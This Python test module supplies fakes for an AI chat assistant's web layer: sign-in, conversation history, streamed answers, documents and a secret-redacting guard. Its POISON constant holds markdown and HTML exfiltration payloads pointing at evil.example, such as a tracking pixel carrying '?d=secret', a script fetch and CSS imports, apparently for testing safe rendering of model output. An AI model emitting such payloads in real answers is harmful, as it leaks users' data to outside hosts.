"""Fakes behind the web doors: people, history, knowledge, jobs and a turn whose answer a test can hold back."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncGenerator, Awaitable, Callable, Mapping, Sequence
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime, timedelta
from uuid import UUID, uuid4

from assistant.answering.attached import number_lines, quote
from assistant.answering.guarding import ConversationGuard
from assistant.answering.words import question_detail, title_of, title_of_question
from assistant.balance import Balance
from assistant.conversation import Author, Message, MessageState, Person, Role, Thread, Turn
from assistant.errors import BadInputError, CloisterError, NotAllowedError, NotFoundError
from assistant.history.values import Feedback, StoredMessage, ThreadPage
from assistant.jobs.job import Job, JobState
from assistant.knowledge.document import Document, DocumentState
from assistant.personas.reader import Persona, Personas, read_personas
from assistant.review import Figures, Review
from assistant.turn_events import (
    Accepted,
    Answered,
    AnswerText,
    Blocked,
    Guarded,
    Notice,
    ReasoningText,
    Routed,
    ToolCallText,
    TurnEvent,
    Waiting,
)
from assistant.web.chat_parts import ChatParts
from assistant.web.console_parts import ConsoleParts
from assistant.web.own_tokens import TokenPageParts
from connectors.model_hosts.values import Capability, HostStatus, ModelStatus, Route
from policies.verdict import Action, Decision, Finding, Verdict
from tests.fakes.console_parts import FakeConsole
from tests.fakes.own_tokens import FakeOwnTokens, look
from tests.fakes.review_parts import FakeCounts, FakeReports
from tests.fakes.turn_parts import FakeAudit

PASSWORD = "correct horse battery"
ACCESS_KEY = "AKIAIOSFODNN7EXAMPLE"
PEM = "-----BEGIN RSA PRIVATE KEY-----"
THOUGHT = "The log says that the disk is full, so the restart cannot have worked. [Wrong?](/wrong/1/0)"
ANSWER = "The restart failed because the disk was full.\n\n```python\nprint('free some space')\n```\n"
CITING = (
    "The retry in [0, 5) never ends, see src/retry.py:3-4, `src/retry.py:9` and src/nothing.py:1.\n\n```python\n"
    "# src/retry.py:3\nfor attempt in range(MOST_ATTEMPTS_BEFORE_THE_CALLER_HEARS_OF_IT): "
    "connection.send(request, timeout_seconds=TIMEOUT_SECONDS, headers={'retry-after': str(attempt)})\n```\n"
)
EVIL = "evil.example"
LABELS = {"secret/aws-access-key": "AWS access key", "secret/private-key": "Private key"}
POISON = (
    f"Look: ![chart](https://{EVIL}/pixel.png?d=secret) and [a link](https://{EVIL}/click) "
    f"<img src='https://{EVIL}/tag.png'><script>fetch('https://{EVIL}/x')</script> ![v](https://{EVIL}/film.mp4) "
    f"<style>@import url(https://{EVIL}/css); body {{ background: url(https://{EVIL}/back.png) }}</style>"
    f"<svg><image href='https://{EVIL}/svg.png'/></svg><meta http-equiv='refresh' content='0;url=https://{EVIL}/meta'>"
    f"<link rel='prefetch' href='https://{EVIL}/prefetch'><iframe src='https://{EVIL}/frame'></iframe>"
    f"<video poster='https://{EVIL}/poster.png'></video><object data='https://{EVIL}/object'></object> "
    f"<https://{EVIL}/plain> and $\\href{{https://{EVIL}/math}}{{x}}$"
)


@dataclass(frozen=True, slots=True)
class FakeSignedIn:
    person: Person
    token: str


@dataclass
class FakeIdentity:
    people: dict[str, Person] = field(default_factory=dict)
    sessions: dict[str, str] = field(default_factory=dict)
    refusal: CloisterError | None = None  # of every sign-in
    outage: CloisterError | None = None  # of every sign-out
    fault: Exception | None = None  # of whatever comes with a session

    def add(self, name: str, *roles: Role) -> Person:
        person = Person(id=uuid4(), name=name, roles=frozenset(roles))
        self.people[name] = person
        return person

    async def sign_in(self, name: str, password: str, client: str) -> FakeSignedIn:
        if self.refusal is not None:
            raise self.refusal
        if name not in self.people or password != PASSWORD:
            raise NotAllowedError("The name or the password is not right. Check both and try again.")
        token = uuid4().hex
        self.sessions[token] = name
        return FakeSignedIn(self.people[name], token)

    async def person_for_session(self, token: str) -> Person | None:
        if self.fault is not None:
            raise self.fault
        return self.people.get(self.sessions.get(token, ""))

    async def sign_out(self, token: str) -> None:
        if token and self.outage is not None:
            raise self.outage
        self.sessions.pop(token, None)


class FakeHistory:
    """Threads in memory, with the ownership rules of the real history."""

    def __init__(self) -> None:
        self.rows: dict[UUID, Thread] = {}
        self.deleted: list[UUID] = []
        self.stored: dict[UUID, list[StoredMessage]] = {}
        self.meanwhile: Callable[[], Awaitable[None]] | None = None  # happens once, while messages are on their way

    async def thread(self, person: Person, thread_id: UUID) -> Thread:
        thread = self.rows.get(thread_id)
        if thread is None or thread.owner_id != person.id:
            raise NotFoundError("There is no such conversation, or it is not yours.")
        return thread

    async def threads(self, person: Person, *, limit: int, before: str, search: str) -> ThreadPage:
        words = search.lower()
        own = [
            thread
            for thread in self.rows.values()
            if thread.owner_id == person.id
            and (words in thread.title.lower() or any(words in m.message.text.lower() for m in self.stored[thread.id]))
        ]
        own.sort(key=lambda thread: thread.updated_at, reverse=True)
        if before and not before.isdigit():
            raise BadInputError("This page of the list is not there any more. Reload it.")
        start = int(before or 0)
        page = own[start : start + limit]
        return ThreadPage(tuple(page), str(start + limit) if len(own) > start + limit else "")

    async def messages(self, person: Person, thread_id: UUID) -> list[StoredMessage]:
        await self.thread(person, thread_id)
        found = list(self.stored[thread_id])
        if self.meanwhile is not None:
            meanwhile, self.meanwhile = self.meanwhile, None
            await meanwhile()
        return found

    async def stored_message(self, person: Person, message_id: UUID) -> StoredMessage:
        for thread_id, entries in self.stored.items():
            for entry in entries:
                if entry.message.id == message_id and self.rows[thread_id].owner_id == person.id:
                    return entry
        raise NotFoundError("There is no such message, or it is not yours.")

    async def message(self, person: Person, message_id: UUID) -> StoredMessage:
        return await self.stored_message(person, message_id)

    async def rename_thread(self, person: Person, thread_id: UUID, title: str) -> None:
        self.rows[thread_id] = replace(await self.thread(person, thread_id), title=judge(title).text)

    async def delete_thread(self, person: Person, thread_id: UUID) -> None:
        await self.thread(person, thread_id)
        self.deleted.append(thread_id)
        del self.rows[thread_id], self.stored[thread_id]

    async def give_feedback(self, person: Person, message_id: UUID, *, is_helpful: bool, comment: str = "") -> UUID:
        for thread_id, entries in self.stored.items():
            for place, entry in enumerate(entries):
                if entry.message.id == message_id and self.rows[thread_id].owner_id == person.id:
                    feedback = Feedback(uuid4(), int(is_helpful), judge(comment).text)
                    entries[place] = replace(entry, feedback=feedback)
                    return feedback.id
        raise NotFoundError("There is no such message, or it is not yours.")

    async def withdraw_feedback(self, person: Person, feedback_id: UUID) -> None:
        for thread_id, entries in self.stored.items():
            for place, entry in enumerate(entries):
                if entry.feedback and entry.feedback.id == feedback_id and self.rows[thread_id].owner_id == person.id:
                    entries[place] = replace(entry, feedback=None)
                    return
        raise NotFoundError("There is no such feedback, or it is not yours.")

    def begin(
        self, turn: Turn, text: str, state: MessageState, note: str, detail: Mapping[str, object], *, title: str = ""
    ) -> None:
        now = datetime.now(UTC)
        thread = self.rows.get(turn.thread_id)
        if thread is not None and thread.owner_id != turn.person.id:
            raise NotFoundError("There is no such conversation, or it is not yours.")
        title = thread.title if thread else title or title_of(text)
        created = thread.created_at if thread else now
        self.rows[turn.thread_id] = Thread(turn.thread_id, turn.person.id, title, turn.persona, created, now)
        question = Message(turn.message_id, turn.thread_id, turn.id, Author.USER, text, state, note)
        answer = Message(turn.answer_id, turn.thread_id, turn.id, Author.ASSISTANT, "", MessageState.STREAMING)
        entries = self.stored.setdefault(turn.thread_id, [])
        entries += [StoredMessage(question, detail, None), StoredMessage(answer, {}, None)]

    def finish(self, turn: Turn, text: str, state: MessageState, note: str = "") -> None:
        entries = self.stored.get(turn.thread_id, [])
        for place, entry in enumerate(entries):
            if entry.message.id == turn.answer_id:
                entries[place] = replace(entry, message=replace(entry.message, text=text, state=state, note=note))


@dataclass
class FakeTurns:
    """Answers as `run_turn` gives them; `hold` keeps the rest of an answer back until `release` is called."""

    history: FakeHistory
    asked: list[Turn] = field(default_factory=list)
    closed: list[str] = field(default_factory=list)
    pause_seconds: float = 0.0
    ending_seconds: float = 0.0  # how long an interruption takes to be durable
    recorded_seconds: float = 0.0  # how long it takes from the durable end of an answer to its last event
    guard_seconds: float = 0.0  # how long the guard looks at the question
    places: Sequence[str] = ()  # in the line before the hosts; `move_up` goes on from each
    repeat: int = 0  # pieces of a long answer instead of the short one
    is_holding: bool = False
    refusal: Exception | None = None
    balance: Balance = field(default=Balance())
    personas: Personas = field(default_factory=read_personas)
    _loop: asyncio.AbstractEventLoop | None = None
    _gate: asyncio.Event | None = None
    _moved: asyncio.Event | None = None

    def move_up(self) -> None:
        if self._loop and self._moved:
            self._loop.call_soon_threadsafe(self._moved.set)

    def hold(self) -> None:
        self.is_holding = True

    def release(self) -> None:
        self.is_holding = False
        if self._loop and self._gate:
            self._loop.call_soon_threadsafe(self._gate.set)

    def _refuse(self, turn: Turn) -> None:
        if not turn.text.strip() and not turn.attachments and not turn.command:
            raise BadInputError("The message is empty. Write a question, or attach a text file.")
        if "explode" in turn.text:
            raise RuntimeError("a planted secret: no words for a person")
        if self.refusal is not None:
            raise self.refusal

    async def answer(self, turn: Turn) -> AsyncGenerator[TurnEvent, None]:
        self._refuse(turn)
        self.asked.append(turn)
        self._loop, self._moved = asyncio.get_running_loop(), asyncio.Event()
        if self.is_holding or self._gate is None:  # else one that waits at the gate would not hear of its opening
            self._gate = asyncio.Event()
        yield Accepted(turn.reference, self.balance)
        await asyncio.sleep(self.guard_seconds)
        verdict = judge(turn.text)
        note = note_of(verdict)
        persona = self.personas.choose(turn.persona, turn.person)
        detail = question_detail(verdict, turn, task=persona.task_of(turn.command))
        if verdict.is_blocked:
            words = (
                "Nothing was sent. The text holds what looks like a private key (rule secret/private-key). "
                f"Remove it, or ask your reviewer (ref {turn.reference})."
            )
            self.history.begin(turn, "(blocked: not stored)", MessageState.BLOCKED, "", detail)
            self.history.finish(turn, words, MessageState.BLOCKED)
            yield Blocked(turn.reference, words, verdict)
            return
        kept = _kept(turn, persona, verdict.text)
        title = title_of_question(verdict.text or kept.rpartition("\n\n")[2], turn.command)
        self.history.begin(turn, kept, MessageState.COMPLETE, note, detail, title=title)
        yield Guarded(verdict, note)
        shown, is_recorded = "", False
        try:
            for place in self.places:
                yield Waiting(place)
                await self._moved.wait()
                self._moved.clear()
            yield Routed(Route("Mini2/llama3.1:70b", "Mini2", "llama3.1:70b", 32768, "most room"))
            if "notice" in turn.text:
                yield Notice("Mini2 is loading llama3.1:70b, about 40 s")
            for beside in _beside(turn.text):
                yield beside
            text = "token " * self.repeat if self.repeat else _text_for(turn)
            for number, piece in enumerate(_pieces(text)):
                if number == 3 and self.is_holding:
                    await self._gate.wait()
                shown += piece
                yield AnswerText(piece)
                await asyncio.sleep(self.pause_seconds)
            muted = f"Mini2 · llama3.1:70b · 4.8 s · logged {turn.reference}"
            self.history.finish(turn, shown, MessageState.COMPLETE, muted)
            is_recorded = True
            await asyncio.sleep(self.recorded_seconds)
            yield Answered(turn.reference, muted, Verdict(Action.ALLOW, shown, (), "sha256:0"))
        except (asyncio.CancelledError, GeneratorExit):
            await asyncio.sleep(self.ending_seconds)  # a second cancellation would end it here, unrecorded
            if not is_recorded:
                self.history.finish(turn, shown, MessageState.INTERRUPTED, "Stopped before its end.")
            raise
        finally:
            self.closed.append(turn.reference)


def _text_for(turn: Turn) -> str:
    if "poison" in turn.text:
        return POISON
    return CITING if turn.attachments and turn.command else ANSWER


def _kept(turn: Turn, persona: Persona, text: str) -> str:
    """Return a question as `run_turn` keeps it, with its task and files."""
    quoted = [quote(file) for file in turn.attachments]
    if persona.cites_lines:
        quoted = [number_lines(one, replace(judge(""), text=one)) for one in quoted]
    return "\n\n".join(filter(None, (persona.task_of(turn.command), text, *quoted)))


def judge(text: str) -> Verdict:
    decisions = []
    if ACCESS_KEY in text:
        start = text.index(ACCESS_KEY)
        finding = Finding("AWS_ACCESS_KEY", start, start + len(ACCESS_KEY), 0.98, "secret/aws-access-key")
        decisions.append(Decision(finding, Action.REDACT, "[AWS_ACCESS_KEY_1]", "AKIA••••••••MPLE", "AWS access key"))
    if PEM in text:
        start = text.index(PEM)
        finding = Finding("PRIVATE_KEY", start, start + len(PEM), 1.0, "secret/private-key")
        decisions.append(Decision(finding, Action.BLOCK, "", "-----BEGIN RSA ••••", "Private key"))
    action = max((decision.action for decision in decisions), key=lambda one: one.severity, default=Action.ALLOW)
    kept = "" if action is Action.BLOCK else text.replace(ACCESS_KEY, "[AWS_ACCESS_KEY_1]")
    return Verdict(action, kept, tuple(decisions), "sha256:0123456789ab")


def note_of(verdict: Verdict) -> str:
    held = verdict.held_back
    plural = "value" if len(held) == 1 else "values"
    return f"{len(held)} {plural} held back · " + ", ".join(decision.label for decision in held) if held else ""


def _beside(asked: str) -> list[TurnEvent]:
    """Return what the model says before its answer when somebody asks it to think."""
    if "think" not in asked:
        return []
    return [*map(ReasoningText, _pieces(THOUGHT)), ToolCallText(0, name="run_shell", arguments="{}")]


def _pieces(text: str) -> list[str]:
    return [text[start : start + 5] for start in range(0, len(text), 5)]


class FakeDocuments:
    def __init__(self) -> None:
        self.files: dict[UUID, tuple[Person, str, bytes]] = {}
        self.shared: set[UUID] = set()

    async def add(self, person: Person, name: str, data: bytes) -> Job:
        if b"\x00" in data:
            raise BadInputError("The file is not a text. Text, Markdown and source code can be added.")
        self.files[uuid4()] = (person, name, data)
        return _job("index_upload", JobState.QUEUED, 0, "Waiting for a worker.")

    async def watch(self, person: Person, job_id: UUID) -> AsyncGenerator[Job, None]:
        for percent in (5, 40, 85):
            yield _job("index_upload", JobState.RUNNING, percent, "Splitting it into passages.")
            await asyncio.sleep(0)
        yield _job("index_upload", JobState.DONE, 100, "Done.")

    async def list_own(self, person: Person) -> list[Document]:
        return [
            Document(
                file_id, name, name, file_id in self.shared, DocumentState.INDEXED, "", len(data), datetime.now(UTC)
            )
            for file_id, (owner, name, data) in self.files.items()
            if owner.id == person.id or file_id in self.shared
        ]

    async def remove(self, person: Person, document_id: UUID) -> None:
        is_own = document_id in self.files and self.files[document_id][0].id == person.id
        if document_id in self.shared:
            is_own = Role.ADMINISTRATOR in person.roles
        if not is_own:
            raise NotFoundError("There is no such document, or it is not yours to remove.")
        del self.files[document_id]


def _job(task: str, state: JobState, percent: int, detail: str) -> Job:
    now = datetime.now(UTC)
    return Job(uuid4(), task, "Add a document", None, {}, state, percent, detail, 1, "7K2FABC", now, now, None)


def hosts() -> Sequence[HostStatus]:
    now = datetime.now(UTC) - timedelta(minutes=5)
    model = ModelStatus("llama3.1:70b", True, True, 32768, 0, frozenset({Capability.CHAT}))
    return [HostStatus("Mini2", "lmstudio", "http://mini2:1234", True, "Mini2 serves 1 model", now, "fleet", (model,))]


class JudgingGuard(ConversationGuard):
    """The product's guard of titles and comments, judging by a few words."""

    def __init__(self) -> None:
        pass  # it needs neither policy nor history

    async def check_apart(self, text: str, person: Person) -> Verdict:
        return judge(text)


@dataclass
class FakeSite:
    """Everything behind the doors; reports are filed and decided by the product's own use case."""

    identity: FakeIdentity = field(default_factory=FakeIdentity)
    history: FakeHistory = field(default_factory=FakeHistory)
    documents: FakeDocuments = field(default_factory=FakeDocuments)
    reports: FakeReports = field(default_factory=FakeReports)
    counts: FakeCounts = field(default_factory=FakeCounts)
    audit: FakeAudit = field(default_factory=lambda: FakeAudit([]))
    tokens: FakeOwnTokens = field(default_factory=FakeOwnTokens)
    console: FakeConsole = field(default_factory=FakeConsole)
    turns: FakeTurns = field(init=False)
    review: Review = field(init=False)
    figures: Figures = field(init=False)

    def __post_init__(self) -> None:
        self.turns = FakeTurns(self.history)
        figures = self.figures = Figures(self.audit, self.reports, self.counts, labels=lambda: LABELS)
        self.review = Review(self.history, JudgingGuard(), self.audit, reports=self.reports, figures=figures)

    def parts(self) -> ChatParts:
        return ChatParts(
            answer=self.turns.answer,
            personas=read_personas(),
            conversations=self.history,
            documents=self.documents,
            review=self.review,
            hosts=hosts,
            own_tokens=TokenPageParts(self.tokens, read_personas(), hosts, JudgingGuard().check_apart, look),
        )

    def console_parts(self) -> ConsoleParts:
        return self.console.parts(self.audit, self.review, self.figures, LABELS)
